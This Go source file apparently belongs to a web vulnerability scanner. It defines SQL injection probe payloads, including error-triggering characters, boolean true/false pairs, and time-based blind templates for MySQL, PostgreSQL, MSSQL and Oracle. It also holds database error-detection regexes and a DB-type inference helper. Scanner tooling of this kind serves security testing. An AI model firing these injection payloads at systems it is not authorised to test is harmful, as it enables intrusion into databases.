package payloads

import (
	"regexp"
	"strconv"
	"strings"
	"time"
)

// SQLiKind is the technique a payload probes for.
type SQLiKind int

const (
	SQLiErrorBased SQLiKind = iota
	SQLiBooleanBased
	SQLiTimeBased
)

func (k SQLiKind) String() string {
	switch k {
	case SQLiErrorBased:
		return "error-based"
	case SQLiBooleanBased:
		return "boolean-based"
	case SQLiTimeBased:
		return "time-based"
	}
	return "unknown"
}

// BooleanSQLiTest represents a single test case for Boolean-Based SQLi.
type BooleanSQLiTest struct {
	TruePayload  string
	FalsePayload string
	Description  string
}

// TimeBasedSQLiTest represents a single test case for Time-Based Blind SQLi.
type TimeBasedSQLiTest struct {
	// PayloadTemplate contains a {DELAY} placeholder for the sleep duration in seconds.
	PayloadTemplate string
	Description     string
	DBMS            string
}

// Render substitutes the delay into the template.
func (t TimeBasedSQLiTest) Render(delay time.Duration) string {
	secs := int(delay.Round(time.Second) / time.Second)
	if secs < 1 {
		secs = 1
	}
	return strings.ReplaceAll(t.PayloadTemplate, "{DELAY}", strconv.Itoa(secs))
}

// SQLiPayloads are simple strings designed to trigger database errors.
var SQLiPayloads = []string{
	"'", "\"", "`", "');", "';", "))", "' OR '1", "\\",
}

// SQLiErrorPatterns detect database errors in responses. Order matters only for which
// pattern gets reported when several match.
var SQLiErrorPatterns = compileAll(
	`(?i)you have an error in your sql syntax`,
	`(?i)warning: mysql_fetch_array\(\)`,
	`(?i)unclosed quotation mark after the character string`,
	`(?i)incorrect syntax near`,
	`(?i)ora-[0-9]{5}:`,
	`(?i)psycopg2\.errors\.syntaxerror`,
	`(?i)pg_query\(\): query failed`,
	`(?i)syntax error at or near`,
	`(?i)sqlite3\.(?:operational|sqlite)(?:error|exception)`,
	`(?i)sqlite error`,
	`(?i)near "[^"]*": syntax error`,
	`(?i)uncaught pdoexception`,
	`(?i)unrecognized token:`,
	`(?i)supplied argument is not a valid (?:mysql|postgresql)`,
	`(?i)microsoft ole db provider for sql server`,
	`(?i)ole db provider "sqlncli`,
	`(?i)sqlstate\[[0-9a-z]{5}\]`,
)

// BooleanSQLiTests contains test cases for Boolean-Based SQLi.
var BooleanSQLiTests = []BooleanSQLiTest{
	{TruePayload: "' OR '1'='1", FalsePayload: "' AND '1'='2", Description: "String context with single quotes"},
	{TruePayload: "\" OR \"1\"=\"1", FalsePayload: "\" AND \"1\"=\"2", Description: "String context with double quotes"},
	{TruePayload: "' OR 1=1 -- -", FalsePayload: "' AND 1=2 -- -", Description: "String context with comment"},
	{TruePayload: ") OR ('1'='1", FalsePayload: ") AND ('1'='2", Description: "Parenthesis with single quotes"},
	{TruePayload: " OR 1=1", FalsePayload: " AND 1=2", Description: "Numeric context"},
	{TruePayload: " OR 1=1 -- -", FalsePayload: " AND 1=2 -- -", Description: "Numeric context with comment"},
}

// TimeBasedSQLiTests contains test cases for Time-Based Blind SQLi.
var TimeBasedSQLiTests = []TimeBasedSQLiTest{
	{PayloadTemplate: "' AND SLEEP({DELAY}) AND '1'='1", Description: "MySQL/MariaDB string time-based", DBMS: "MySQL"},
	{PayloadTemplate: " AND SLEEP({DELAY})", Description: "MySQL/MariaDB time-based", DBMS: "MySQL"},
	{PayloadTemplate: "' AND pg_sleep({DELAY}) -- -", Description: "PostgreSQL string time-based", DBMS: "PostgreSQL"},
	{PayloadTemplate: "; WAITFOR DELAY '0:0:{DELAY}'--", Description: "MSSQL time-based", DBMS: "MSSQL"},
	{PayloadTemplate: " AND 1=dbms_pipe.receive_message('a',{DELAY})", Description: "Oracle time-based", DBMS: "Oracle"},
}

// MatchSQLError returns the first database error found in body.
func MatchSQLError(body string) (string, bool) {
	for _, re := range SQLiErrorPatterns {
		if m := re.FindString(body); m != "" {
			return m, true
		}
	}
	return "", false
}

// IsIgnoredParam checks if a parameter should be skipped by injection probes.
func IsIgnoredParam(paramName string) bool {
	switch strings.ToLower(paramName) {
	case "_csrf_token", "csrf_token", "csrf", "csrfmiddlewaretoken", "authenticity_token", "_token",
		"session_id", "session", "__cfduid", "__viewstate", "__eventvalidation":
		return true
	}
	return false
}

// InferDBType infers the database type from an error message.
func InferDBType(errorEvidence string) string {
	lowerEvidence := strings.ToLower(errorEvidence)
	switch {
	case strings.Contains(lowerEvidence, "mysql") || strings.Contains(lowerEvidence, "mariadb"):
		return "MySQL"
	case strings.Contains(lowerEvidence, "ora-") || strings.Contains(lowerEvidence, "oracle"):
		return "Oracle"
	case strings.Contains(lowerEvidence, "postgre") || strings.Contains(lowerEvidence, "pg_") || strings.Contains(lowerEvidence, "psycopg"):
		return "PostgreSQL"
	case strings.Contains(lowerEvidence, "sql server") || strings.Contains(lowerEvidence, "sqlncli") || strings.Contains(lowerEvidence, "incorrect syntax near") || strings.Contains(lowerEvidence, "unclosed quotation"):
		return "MSSQL"
	case strings.Contains(lowerEvidence, "sqlite") || strings.Contains(lowerEvidence, "unrecognized token"):
		return "SQLite"
	case strings.Contains(lowerEvidence, "pdoexception") || strings.Contains(lowerEvidence, "sqlstate"):
		return "Generic/PDO"
	}
	return "Unknown"
}

func compileAll(patterns ...string) []*regexp.Regexp {
	out := make([]*regexp.Regexp, len(patterns))
	for i, p := range patterns {
		out[i] = regexp.MustCompile(p)
	}
	return out
}
